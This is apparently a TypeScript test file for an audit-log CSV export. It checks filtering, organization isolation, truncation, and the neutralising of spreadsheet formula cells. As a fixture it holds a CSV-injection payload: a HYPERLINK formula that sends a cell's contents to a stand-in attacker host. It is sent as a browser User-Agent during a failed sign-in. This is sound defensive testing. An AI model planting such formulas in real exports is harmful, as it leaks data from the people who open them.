/**
 * The audit log as CSV (issue 27), on both engines: the same filters as the list, a header row, one row
 * per event (read back with csv-parse), only the organization's own events, and every cell a spreadsheet
 * would evaluate — here a User-Agent that is a formula — neutralised with a leading apostrophe.
 */
import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { parse } from 'csv-parse/sync'
import { AUDIT_CSV_COLUMNS, neutraliseCell } from '../../../src/audit/audit-csv.ts'
import { Browser } from '../../helpers/browser.ts'
import { DIALECTS } from '../../helpers/databases.ts'
import { setupAdmin, type AdminFixture } from './admin.setup.ts'

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'

describe('audit CSV cells', () => {
  it('neutralises what a spreadsheet would evaluate, and nothing else', () => {
    for (const cell of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1']) {
      assert.equal(neutraliseCell(cell), `'${cell}`)
    }
    for (const cell of ['login.failed', 'a=b', '', '1-2']) assert.equal(neutraliseCell(cell), cell)
  })
})

for (const dialect of DIALECTS) {
  describe(`${dialect}: the audit log as CSV`, () => {
    let f: AdminFixture
    before(async () => {
      f = await setupAdmin(dialect)
    })
    after(() => f?.close())

    const csv = async (orgId: string, token: string, query = '') => {
      const response = await fetch(`${f.url}/api/v1/orgs/${orgId}/audit-events/export${query}`, {
        headers: { authorization: `Bearer ${token}` },
      })
      assert.equal(response.status, 200)
      assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8')
      assert.match(
        response.headers.get('content-disposition') ?? '',
        /^attachment; filename="audit-/,
      )
      assert.equal(response.headers.get('x-portcullis-truncated'), 'false')
      return parse(await response.text(), { columns: true }) as Record<string, string>[]
    }

    it('exports the filtered log with formula cells neutralised, only this organization’s', async () => {
      // A failed sign-in whose browser calls itself a formula.
      const browser = new Browser(FORMULA)
      const authorize = new URL(`${f.url}/oauth2/authorize`)
      authorize.search = new URLSearchParams({
        client_id: 'portcullis-admin-center',
        redirect_uri: `${f.url}/admin/callback`,
        response_type: 'code',
        scope: 'openid',
        code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
        code_challenge_method: 'S256',
      }).toString()
      const email = await browser.follow(authorize.href)
      const password = await browser.submit(email, '/login/email', { email: f.a.ownerEmail })
      await browser.submit(password, '/login/password', { password: 'not the password at all' })

      const rows = await csv(f.a.orgId, f.a.token)
      assert.deepEqual(Object.keys(rows[0] ?? {}), [...AUDIT_CSV_COLUMNS])
      const listed = await f.api(
        f.a.token,
        'GET',
        `/api/v1/orgs/${f.a.orgId}/audit-events?limit=100`,
      )
      assert.equal(listed.json['nextCursor'], null, 'one page holds this organization’s log here')
      assert.equal(rows.length, (listed.json['events'] as unknown[]).length)
      const failed = rows.find((row) => row['type'] === 'login.failed')
      assert.equal(failed?.['actorUserAgent'], `'${FORMULA}`)
      for (const row of rows) {
        for (const cell of Object.values(row)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/)
      }

      const onlyFailed = await csv(f.a.orgId, f.a.token, '?type=login.failed')
      assert.ok(onlyFailed.length >= 1)
      assert.ok(onlyFailed.every((row) => row['type'] === 'login.failed'))
      const theirs = await csv(f.b.orgId, f.b.token, '?type=login.failed')
      assert.deepEqual(theirs, [], 'another organization’s export has none of these')
      const crossed = await fetch(`${f.url}/api/v1/orgs/${f.b.orgId}/audit-events/export`, {
        headers: { authorization: `Bearer ${f.a.token}` },
      })
      assert.ok(crossed.status === 403 || crossed.status === 404, String(crossed.status))
    })

    it('says it is cut only when events were left out', async () => {
      const { audit } = f.server.app.services
      const all = await audit.exportEvents(f.a.orgId, {})
      const n = all.events.length
      assert.ok(n > 2 && !all.truncated)
      assert.deepEqual((await audit.exportEvents(f.a.orgId, {}, n)).truncated, false)
      const cut = await audit.exportEvents(f.a.orgId, {}, n - 1)
      assert.equal(cut.truncated, true)
      assert.equal(cut.events.length, n - 1)
    })
  })
}
